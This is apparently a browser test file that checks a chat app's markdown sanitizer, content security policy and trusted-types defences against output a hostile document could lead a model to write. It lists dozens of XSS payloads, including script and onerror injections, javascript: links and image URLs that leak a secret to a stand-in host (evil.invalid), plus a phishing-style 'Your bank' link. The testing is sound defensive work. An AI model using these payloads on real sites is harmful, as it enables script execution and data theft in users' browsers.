import assert from 'node:assert/strict';
import { answer, policy } from './support/server.mjs';
import { script } from './support/source.mjs';
import { ask, phase, suite } from './support/suite.mjs';

const { page: browserTest, server } = suite();

/** What a model could be made to write by a hostile document. Each would call `pwned` or reach another host. */
const attacks = [
  '<script>pwned()</script>', '<img src=x onerror="pwned()">', '<svg onload=pwned()>', '<iframe srcdoc="<script>parent.pwned()</script>">',
  '<math><mi xlink:href="javascript:pwned()">x</mi></math>', '<a href="javascript:pwned()">x</a>', '<form action="https://evil.invalid"><input autofocus onfocus=pwned()>',
  '[x](javascript:pwned())', '[x](JaVaScRiPt:pwned())', '[x](data:text/html,<script>pwned()</script>)', '[x](<https://evil.invalid/" onmouseover="pwned()>)',
  '![x](https://evil.invalid/leak?q=SECRET)', '![x](//evil.invalid/a.png)', '![" onerror="pwned()](https://evil.invalid/b.png)', '[![x](https://evil.invalid/c.png)](javascript:pwned())',
  '```"><img src=x onerror=pwned()>\n</code></pre><img src=x onerror=pwned()>\n```', '`<img src=x onerror=pwned()>`',
  '# <img src=x onerror=pwned()>', '| <img src=x onerror=pwned()> |\n|---|\n| <script>pwned()</script> |', '- <details open ontoggle=pwned()>',
  '<style>@import "https://evil.invalid/s.css"; body{background:url(https://evil.invalid/t.png)}</style>', '<link rel=stylesheet href=https://evil.invalid/u.css>',
  '<meta http-equiv="refresh" content="0;url=https://evil.invalid">', '<base href="https://evil.invalid/">', '<object data="https://evil.invalid/x">',
  '<noscript><p title="</noscript><img src=x onerror=pwned()>">', '<div id=app></div><template shadowrootmode=open><script>pwned()</script></template>',
  '&lt;img src=x onerror=pwned()&gt;', '[x]: https://evil.invalid "\\" onclick=\\"pwned()"\n\n[x]',
];

browserTest('nothing that a model writes runs, loads or leads away', async ({ page }) => {
  await page.evaluate(() => {
    globalThis.calls = 0;
    globalThis.pwned = () => (globalThis.calls += 1);
  });
  server.onChat = (_body, response) => answer(response, attacks.join('\n\n'));
  await ask(page, attacks.join('\n'));
  await phase(page, 'done');
  const seen = await page.locator('[role=log]').evaluate((log) => {
    // Pointing at, clicking on and focusing everything is what a reader may do.
    for (const node of log.querySelectorAll('.markdown *')) {
      for (const type of ['mouseover', 'mouseenter', 'focus', 'toggle']) node.dispatchEvent(new Event(type, { bubbles: true }));
      if (node.tagName !== 'A') node.dispatchEvent(new MouseEvent('click', { bubbles: true }));
    }
    const nodes = [...log.querySelectorAll('.markdown *')];
    return {
      calls: globalThis.calls,
      tags: [...new Set(nodes.map((node) => node.tagName))],
      attributes: [...new Set(nodes.flatMap((node) => [...node.attributes].map(({ name }) => name)))],
      links: [...log.querySelectorAll('a')].map((link) => [link.protocol, link.target, link.rel]),
      title: document.title, base: document.baseURI,
    };
  });
  assert.equal(seen.calls, 0);
  for (const tag of ['SCRIPT', 'IMG', 'SVG', 'IFRAME', 'FORM', 'INPUT', 'STYLE', 'LINK', 'META', 'BASE', 'OBJECT', 'DETAILS', 'TEMPLATE', 'MATH']) {
    assert.ok(!seen.tags.includes(tag), `${tag} came through`);
  }
  for (const name of seen.attributes) assert.match(name, /^(href|target|rel|class|type|tabindex|start)$/);
  assert.ok(seen.links.length > 0);
  for (const link of seen.links) assert.deepEqual(link, ['https:', '_blank', 'noopener noreferrer']);
  assert.equal(new URL(seen.base).origin, server.url);
  assert.equal(page.url(), `${server.url}/`);
  // The suite itself asserts that no request went elsewhere and that no policy was violated.
});

browserTest('the second wall holds alone, should the first one fall', async ({ page, allowed }) => {
  allowed.push(/^policy: script-src/); // parsing a handler is reported even though it is never attached
  // On the start page nothing has been sanitized yet, so that this copy may still make the policy.
  await page.evaluate(await script('lib/sanitize.ts', 'sanitizer'));
  const seen = await page.evaluate((attacks) => {
    globalThis.calls = 0;
    globalThis.pwned = () => (globalThis.calls += 1);
    const tags = new Set();
    const attributes = new Set();
    const addresses = [];
    for (const attack of attacks) {
      const block = document.body.appendChild(document.createElement('div'));
      globalThis.sanitizer.setSafeHtml(block, attack);
      for (const node of block.querySelectorAll('*')) {
        tags.add(node.tagName);
        for (const { name } of node.attributes) attributes.add(name);
        if (node.href) addresses.push([node.protocol, node.rel]);
        node.dispatchEvent(new MouseEvent('mouseover', { bubbles: true }));
      }
    }
    return { calls: globalThis.calls, tags: [...tags], attributes: [...attributes], addresses };
  }, [...attacks, '<a href="https://ok.invalid" target=_top rel=opener ping="https://evil.invalid" style="color:red">x</a>', '<p onclick=pwned() id=app name=x data-x=1 aria-label=y>x</p>']);
  assert.equal(seen.calls, 0);
  for (const tag of seen.tags) assert.match(tag, /^(A|B|P|DIV|SPAN|CODE|PRE|BR)$/, tag);
  for (const name of seen.attributes) assert.match(name, /^(href|target|rel|class)$/, name);
  assert.deepEqual(seen.addresses, [['https:', 'noopener noreferrer']]);
});

browserTest('no other code can make HTML out of text', async ({ page, allowed }) => {
  allowed.push(/^policy: (require-trusted-types-for|trusted-types)/); // provoked below
  await ask(page, 'Hi');
  await phase(page, 'done');
  const refused = await page.evaluate(() => {
    const results = {};
    const attempt = (name, act) => {
      try {
        act();
        results[name] = false;
      } catch {
        results[name] = true;
      }
    };
    attempt('innerHTML', () => (document.createElement('div').innerHTML = '<b>x</b>'));
    attempt('another policy', () => globalThis.trustedTypes.createPolicy('mine', { createHTML: (text) => text }));
    attempt('the same policy again', () => globalThis.trustedTypes.createPolicy('dompurify', { createHTML: (text) => text }));
    return results;
  });
  assert.deepEqual(refused, { innerHTML: true, 'another policy': true, 'the same policy again': true });
});

browserTest('a link says where it leads and opens without a way back', async ({ page }) => {
  server.onChat = (_body, response) => answer(response, '[Your bank](https://evil.invalid/login) and https://plain.invalid/x');
  await ask(page, 'Hi');
  await phase(page, 'done');
  assert.equal((await page.locator('.markdown').innerText()).trim(), 'Your bank (evil.invalid) and https://plain.invalid/x');
});

browserTest('a question is shown as text, not as markdown', async ({ page }) => {
  await ask(page, '**x** <b>y</b> ![z](https://evil.invalid/z.png)');
  await phase(page, 'done');
  assert.equal(await page.locator('.bubble').innerText(), '**x** <b>y</b> ![z](https://evil.invalid/z.png)');
});

browserTest('the page is served under the policy it is tested with', async ({ page }) => {
  const response = await page.request.get(server.url);
  assert.equal(response.headers()['content-security-policy'], policy);
});
